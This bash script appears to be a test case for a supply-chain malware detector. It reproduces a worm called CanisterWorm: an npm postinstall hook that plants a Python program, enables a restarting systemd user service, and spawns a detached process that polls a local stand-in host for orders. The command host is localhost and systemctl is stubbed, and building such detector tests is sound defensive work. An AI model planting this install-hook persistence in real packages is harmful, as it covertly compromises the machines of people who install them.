#!/bin/bash
# Models CanisterWorm (2026-03): a postinstall script writes a user service, enables it, and its program asks for orders.
# must: execution/dependency-starts-interpreter
# must: persistence/dependency-plants-start | persistence/service-unit
# must: persistence/dependency-enables-service
# must: stealth/dependency-detaches | stealth/dependency-leaves-session
# gate: fail
mkdir -p /tmp/bin /tmp/pkg && cd /tmp/pkg
printf '#!/bin/sh\nexit 0\n' > /tmp/bin/systemctl; chmod +x /tmp/bin/systemctl
echo 'import urllib.request; urllib.request.urlopen("http://127.0.0.1:8000/orders").read()' > /mnt/served/service.py
echo '{"name":"canister","version":"1.0.0","scripts":{"postinstall":"node index.js"}}' > package.json
cat > index.js <<'JS'
const fs = require("fs");
const { execSync, spawn } = require("child_process");
const home = process.env.HOME;
fs.mkdirSync(`${home}/.local/share/pgmon`, { recursive: true });
fs.writeFileSync(`${home}/.local/share/pgmon/service.py`, fs.readFileSync("/mnt/served/service.py"));
fs.mkdirSync(`${home}/.config/systemd/user`, { recursive: true });
fs.writeFileSync(`${home}/.config/systemd/user/pgmon.service`, "[Service]\nRestart=always\n");
execSync("PATH=/tmp/bin:$PATH systemctl --user enable --now pgmon");
spawn("python3", [`${home}/.local/share/pgmon/service.py`], { detached: true, stdio: "ignore" }).unref();
JS
cd "$WORKSPACE" && echo '{"name":"app","version":"1.0.0"}' > package.json
npm install --offline --no-audit --no-fund --install-links --foreground-scripts /tmp/pkg
sleep 1
